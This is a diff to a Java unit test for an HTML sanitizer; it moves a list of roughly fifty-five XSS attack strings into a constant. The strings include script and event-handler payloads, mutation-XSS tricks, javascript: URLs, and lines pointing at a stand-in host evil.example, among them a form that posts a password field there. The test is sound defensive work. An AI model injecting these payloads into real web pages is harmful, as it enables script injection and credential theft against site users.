@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import gg.jte.output.StringOutput;
 import java.util.Set;
+import java.util.stream.Stream;
 import org.jsoup.Jsoup;
 import org.jsoup.nodes.Attribute;
 import org.jsoup.nodes.Document;
@@ -16,6 +17,64 @@ import org.junit.jupiter.params.provider.ValueSource;
 import org.wandelwerk.kernel.Refused;
 
 class RichTextTest {
+
+    private static final String[] ATTACKS = {
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<img src='x'/onerror='alert(1)'>",
+        "<svg/onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<template><script>alert(1)</script></template>",
+        "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
+        "<iframe src=javascript:alert(1)></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        "<object data=javascript:alert(1)>",
+        "<embed src=javascript:alert(1)>",
+        "<base href=//evil.example>",
+        "<link rel=stylesheet href=//evil.example>",
+        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+        "<style>@import '//evil.example';</style>",
+        "<p style=\"background:url(javascript:alert(1))\">x</p>",
+        "<p onclick=alert(1)>x</p>",
+        "<p onmouseover\n=\nalert(1)>x</p>",
+        "<strong/onfocus=alert(1) tabindex=1>x",
+        "<a href=\"https://x.example\" onclick=alert(1)>x</a>",
+        "<a name=\"defaultView\">x</a>",
+        "<p id=\"location\">x</p>",
+        "<form action=//evil.example><input name=password><button>x</button></form>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<video><source onerror=alert(1)></video>",
+        "<audio src onerror=alert(1)>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<isindex type=image src=1 onerror=alert(1)>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<!--><script>alert(1)</script>-->",
+        "<!-- --!><img src onerror=alert(1)>",
+        "<?xml version=\"1.0\"?><script>alert(1)</script>",
+        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
+        "<title></title><img src onerror=alert(1)>",
+        "<select><style></select><img src onerror=alert(1)></style>",
+        "<table><td background=javascript:alert(1)>",
+        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
+        "<custom-element onfoo=alert(1) is=x>x</custom-element>",
+        "<a href=https://x.example/`onmouseover=alert(1)>x</a>",
+        "<\u0000script>alert(1)</script>",
+        "<img\u000Bsrc=x\u000Conerror=alert(1)>",
+        "{{constructor.constructor('alert(1)')()}}",
+        "<div><p>x</div>",
+        "<h1>x</h1><h2>y</h2>",
+        "<portal src=javascript:alert(1)>",
+        "<plaintext><img src onerror=alert(1)>"
+    };
 
     private static final Set<String> ELEMENTS =
             Set.of("a", "blockquote", "br", "em", "h3", "h4", "li", "ol", "p", "strong", "ul");
@@ -90,64 +149,8 @@ class RichTextTest {
         assertThat(RichText.of(html).html()).as("cleaned again").isEqualTo(html);
     }
 
-    static String[] attacks() {
-        return new String[] {
-            "<script>alert(1)</script>",
-            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-            "<scr<script>ipt>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "<img src='x'/onerror='alert(1)'>",
-            "<svg/onload=alert(1)>",
-            "<svg><script>alert(1)</script></svg>",
-            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
-            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-            "<template><script>alert(1)</script></template>",
-            "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
-            "<iframe src=javascript:alert(1)></iframe>",
-            "<iframe srcdoc=\"<script>alert(1)</script>\">",
-            "<object data=javascript:alert(1)>",
-            "<embed src=javascript:alert(1)>",
-            "<base href=//evil.example>",
-            "<link rel=stylesheet href=//evil.example>",
-            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-            "<style>@import '//evil.example';</style>",
-            "<p style=\"background:url(javascript:alert(1))\">x</p>",
-            "<p onclick=alert(1)>x</p>",
-            "<p onmouseover\n=\nalert(1)>x</p>",
-            "<strong/onfocus=alert(1) tabindex=1>x",
-            "<a href=\"https://x.example\" onclick=alert(1)>x</a>",
-            "<a name=\"defaultView\">x</a>",
-            "<p id=\"location\">x</p>",
-            "<form action=//evil.example><input name=password><button>x</button></form>",
-            "<details open ontoggle=alert(1)>x</details>",
-            "<video><source onerror=alert(1)></video>",
-            "<audio src onerror=alert(1)>",
-            "<marquee onstart=alert(1)>x</marquee>",
-            "<isindex type=image src=1 onerror=alert(1)>",
-            "<![CDATA[<script>alert(1)</script>]]>",
-            "<!--><script>alert(1)</script>-->",
-            "<!-- --!><img src onerror=alert(1)>",
-            "<?xml version=\"1.0\"?><script>alert(1)</script>",
-            "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
-            "<title></title><img src onerror=alert(1)>",
-            "<select><style></select><img src onerror=alert(1)></style>",
-            "<table><td background=javascript:alert(1)>",
-            "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
-            "<custom-element onfoo=alert(1) is=x>x</custom-element>",
-            "<a href=https://x.example/`onmouseover=alert(1)>x</a>",
-            "<\u0000script>alert(1)</script>",
-            "<img\u000Bsrc=x\u000Conerror=alert(1)>",
-            "{{constructor.constructor('alert(1)')()}}",
-            "<div><p>x</div>",
-            "<h1>x</h1><h2>y</h2>",
-            "<portal src=javascript:alert(1)>",
-            "<plaintext><img src onerror=alert(1)>"
-        };
+    static Stream<String> attacks() {
+        return Stream.of(ATTACKS);
     }
 
     @Test
